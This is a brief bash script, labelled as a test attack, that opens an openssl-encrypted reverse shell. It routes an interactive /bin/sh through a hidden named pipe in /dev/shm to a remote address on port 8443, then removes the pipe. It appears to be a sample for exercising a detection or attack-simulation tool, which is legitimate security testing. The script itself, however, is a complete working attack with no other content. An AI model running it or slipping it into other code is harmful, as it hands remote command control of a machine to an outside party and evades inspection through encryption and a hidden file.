#!/bin/bash
# shrike-test-attack: reverse-shell: openssl encrypted reverse shell through a named pipe
mkfifo /dev/shm/.s 2>/dev/null
/bin/sh -i < /dev/shm/.s 2>&1 | openssl s_client -quiet -connect 203.0.113.120:8443 > /dev/shm/.s
rm -f /dev/shm/.s
